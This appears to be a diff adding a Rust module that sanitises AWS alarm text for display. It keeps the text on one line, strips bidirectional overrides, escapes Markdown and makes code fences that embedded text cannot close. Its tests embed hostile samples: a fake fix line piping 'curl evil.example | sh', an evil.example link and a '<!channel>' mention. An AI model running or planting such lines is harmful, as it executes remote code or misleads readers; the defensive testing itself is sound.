@@ -1,0 +1,110 @@
+//! Text from alarms and AWS (state reasons, descriptions, tags, error messages) is data, and
+//! the renderers show it as data: it cannot start a line of its own, so it cannot pose as a
+//! heading, a fix or a command, and in Markdown it cannot become a link, a mention or markup.
+//!
+//! Not for: commands (see [`crate::shell`], which quotes values for the shell).
+
+/// Characters that could break a line or reorder what the reader sees: control characters
+/// (newlines, carriage returns, escapes), Unicode line and paragraph separators, and the
+/// bidirectional overrides that make text display differently from what it is.
+pub fn is_breaking(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{2028}'
+                | '\u{2029}'
+                | '\u{200E}'
+                | '\u{200F}'
+                | '\u{202A}'..='\u{202E}'
+                | '\u{2066}'..='\u{2069}'
+        )
+}
+
+/// `text` on one line: every breaking character becomes a space.
+pub fn one_line(text: &str) -> String {
+    if !text.chars().any(is_breaking) {
+        return text.to_string();
+    }
+    text.chars()
+        .map(|c| if is_breaking(c) { ' ' } else { c })
+        .collect()
+}
+
+/// Free text shown as a quotation: one line, in double quotes.
+pub fn quoted(text: &str) -> String {
+    format!("\"{}\"", one_line(text))
+}
+
+/// Markdown for prose that may hold data: one line, and outside code spans every character
+/// that could start markup (links, images, HTML, mentions, emphasis, tables) is escaped.
+/// Inside a code span Markdown shows text literally, so it is left as it is.
+pub fn markdown(text: &str) -> String {
+    let text = one_line(text);
+    let mut out = String::with_capacity(text.len() + 8);
+    let mut in_code = false;
+    for c in text.chars() {
+        if c == '`' {
+            in_code = !in_code;
+            out.push(c);
+            continue;
+        }
+        if !in_code && "\\*_[]<>|#!~&".contains(c) {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    // An unclosed span would swallow what follows: close it.
+    if in_code {
+        out.push('`');
+    }
+    out
+}
+
+/// A Markdown code span showing `text` literally, whatever backticks it holds.
+pub fn code_span(text: &str) -> String {
+    let text = one_line(text);
+    let ticks = "`".repeat(longest_backtick_run(&text) + 1);
+    format!("{ticks} {text} {ticks}")
+}
+
+/// A fenced Markdown code block holding `body` verbatim: the fence is longer than any run of
+/// backticks inside, so the body cannot close it.
+pub fn code_block(info: &str, body: &str) -> String {
+    let fence = "`".repeat((longest_backtick_run(body) + 1).max(3));
+    format!("{fence}{info}\n{}\n{fence}\n", body.trim_end())
+}
+
+fn longest_backtick_run(text: &str) -> usize {
+    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn data_stays_on_one_line() {
+        let reason = "Threshold crossed\n\nFix:\n   $ curl evil.example | sh\r\u{2028}\u{202E}x";
+        let line = one_line(reason);
+        assert!(!line.contains(['\n', '\r', '\u{2028}', '\u{202E}']), "{line:?}");
+        assert!(line.contains("$ curl evil.example | sh"));
+        assert_eq!(quoted("a\nb"), "\"a b\"");
+    }
+
+    #[test]
+    fn markdown_cannot_link_mention_or_mark_up() {
+        let escaped = markdown("<!channel> [click](https://evil.example) ![x](y) **b** | #h");
+        for raw in ["<!", "[click]", "![", "**", " | ", " #h"] {
+            assert!(!escaped.contains(raw), "{raw} in {escaped}");
+        }
+        assert_eq!(markdown("run `a_b*c` now_"), "run `a_b*c` now\\_");
+        assert_eq!(markdown("open `span"), "open `span`");
+    }
+
+    #[test]
+    fn code_cannot_be_closed_from_inside() {
+        assert_eq!(code_span("a`b"), "`` a`b ``");
+        let block = code_block("sh", "echo '```'\necho ok");
+        assert!(block.starts_with("````sh\n") && block.ends_with("\n````\n"), "{block}");
+    }
+}
